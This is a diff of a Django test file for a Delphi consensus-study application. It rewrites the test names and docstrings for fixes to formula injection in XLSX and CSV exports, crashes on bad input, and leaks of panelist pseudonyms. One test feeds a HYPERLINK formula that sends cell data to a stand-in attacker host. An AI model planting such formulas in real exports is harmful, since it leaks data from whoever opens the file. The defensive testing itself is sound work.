@@ -41,10 +41,9 @@ def _study_rated_with_comment(comment: str):
     return study
 
 
-def test_xlsx_export_turns_a_panelist_comment_into_a_live_formula():
-    """A panelist's comment "=HYPERLINK(...)" is written by openpyxl as a formula: the
-    facilitator who opens the XLSX export runs a formula chosen by a panelist (formula
-    injection). Comments must be stored as text cells."""
+def test_xlsx_export_writes_a_formula_looking_comment_as_text():
+    """A panelist's comment such as "=HYPERLINK(...)" is a text cell in the XLSX export, never a
+    formula that the facilitator's spreadsheet would run (formula injection)."""
     payload = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
     study = _study_rated_with_comment(payload)
     response = _client(committee_member()).get(reverse("consensus:export-xlsx", args=[study.pk]))
@@ -56,8 +55,8 @@ def test_xlsx_export_turns_a_panelist_comment_into_a_live_formula():
 
 
 def test_csv_export_cells_starting_with_formula_characters_are_neutralised():
-    """The CSV export writes a comment such as "=1+2" or "@SUM(A1)" as is: spreadsheet
-    software evaluates it as a formula when the facilitator opens the file (CSV injection)."""
+    """A comment such as "=1+2" or "@SUM(A1)" is exported with a leading apostrophe: spreadsheet
+    software shows it as text instead of evaluating it (CSV injection)."""
     study = _study_rated_with_comment("=1+2")
     response = _client(committee_member()).get(
         reverse("consensus:export-comments-csv", args=[study.pk])
@@ -69,19 +68,17 @@ def test_csv_export_cells_starting_with_formula_characters_are_neutralised():
             assert not cell.startswith(DANGEROUS), f"formula-like cell exported as is: {cell!r}"
 
 
-def test_xlsx_export_survives_a_control_character_in_a_comment():
-    """A comment pasted with a control character (vertical tab, e.g. from a word processor) is
-    stored, then makes openpyxl raise IllegalCharacterError: the XLSX export is a 500 for the
-    whole study, for everyone, for good."""
+def test_xlsx_export_works_with_a_control_character_in_a_comment():
+    """A comment pasted with a control character (a vertical tab from a word processor) does not
+    stop the XLSX export: openpyxl refuses such characters, so they are left out."""
     study = _study_rated_with_comment("ligne 1\x0bligne 2")
     response = _client(committee_member()).get(reverse("consensus:export-xlsx", args=[study.pk]))
     assert response.status_code == 200
 
 
-def test_ballot_with_a_malformed_score_is_a_400_not_a_500():
-    """A posted score such as "--5" (or "²") is rejected by the parser, but re-displaying the
-    form then calls int() on it again and crashes: the panelist gets a server error instead
-    of the form with the message and what they typed."""
+def test_a_malformed_score_shows_the_ballot_again_with_a_message():
+    """A posted score such as "--5" (or "²") is refused with HTTP 400: the panelist sees the form
+    again with the message and what they typed, and nothing is stored."""
     study = study_with_panel(n_items=1, n_panelists=1)
     delphi_round = round_open(user=study.created_by, study=study)
     item = delphi_round.round_items.get()
@@ -96,9 +93,9 @@ def test_ballot_with_a_malformed_score_is_a_400_not_a_500():
     assert not Rating.objects.exists()
 
 
-def test_ballot_comment_with_a_nul_character_is_a_400_not_a_500():
-    """A NUL character in a comment reaches PostgreSQL, which refuses it: the panelist gets a
-    server error (and loses the ballot typed) instead of a message."""
+def test_a_comment_with_a_nul_character_is_refused_with_a_message():
+    """PostgreSQL cannot store a NUL character: such a comment is refused with a message, never
+    a server error."""
     study = study_with_panel(n_items=1, n_panelists=1)
     delphi_round = round_open(user=study.created_by, study=study)
     item = delphi_round.round_items.get()
@@ -110,12 +107,10 @@ def test_ballot_comment_with_a_nul_character_is_a_400_not_a_500():
     assert response.status_code in (302, 400)
 
 
-def test_export_during_an_open_round_links_a_pseudonym_to_a_named_panelist():
-    """While a round is open the dashboard names who has not submitted yet (intended, for
-    reminders), and the exports already contain that round's ratings under the stable
-    pseudonym. After the first ballot, the only pseudonym in the round is the one panelist
-    missing from the pending list: the facilitator learns who that pseudonym is, and so every
-    rating and comment that panelist gives in every round."""
+def test_exports_leave_out_the_open_round():
+    """While a round is open the dashboard names who has not submitted yet (for reminders); the
+    exports hold no rating of that round, so no pseudonym can be matched with the panelists
+    missing from that list."""
     study = study_with_panel(n_items=1, n_panelists=3)
     facilitator = study.created_by
     delphi_round = round_open(user=facilitator, study=study)
@@ -132,9 +127,9 @@ def test_export_during_an_open_round_links_a_pseudonym_to_a_named_panelist():
     assert rows == [], f"open-round ratings exported under a pseudonym: {rows}"
 
 
-def test_results_during_an_open_round_show_the_single_ballot_of_a_named_panelist():
-    """Same leak on the results page: with one ballot submitted in the open round, the results
-    show n = 1 and its score, while the dashboard names everybody else as pending."""
+def test_results_leave_out_the_open_round():
+    """With one ballot submitted in the open round, the results show no statistic of that round
+    (no n = 1 and its score next to the dashboard's pending names)."""
     study = study_with_panel(n_items=1, n_panelists=3)
     delphi_round = round_open(user=study.created_by, study=study)
     item = delphi_round.round_items.get()
@@ -154,10 +149,9 @@ def test_the_results_page_says_the_open_round_is_left_out(client):
 
 
 def test_export_row_order_does_not_follow_panelist_invitation_order():
-    """Within an item and round, export rows are sorted by Panelist.pk, i.e. by the order in
-    which the facilitator invited the panel (the study form invites in last-name order): the
-    n-th pseudonym of every block is the n-th invited panelist. Rows should be ordered by
-    something that carries no identity, such as the pseudonym itself."""
+    """Within an item and round, export rows are ordered by something that carries no identity,
+    not by Panelist.pk (the order in which the facilitator invited the panel): the n-th row of a
+    block is not the n-th invited panelist."""
     study = study_with_panel(n_items=1, n_panelists=6)
     first = round_open(user=study.created_by, study=study)
     item = first.round_items.get()
@@ -173,9 +167,8 @@ def test_export_row_order_does_not_follow_panelist_invitation_order():
     assert pseudonyms == sorted(invitation_order)
 
 
-def test_decision_post_with_a_non_numeric_item_is_not_a_server_error():
-    """Posting item=abc to the committee decision page raises ValueError inside
-    get_object_or_404: a 500 instead of a 404."""
+def test_a_decision_for_a_non_numeric_item_is_not_found():
+    """item=abc posted to the committee decision page is a 404, not a server error."""
     study = study_with_panel(n_items=1, n_panelists=1)
     client = _client(committee_member())
     response = client.post(reverse("consensus:decisions", args=[study.pk]), {"item": "abc"})
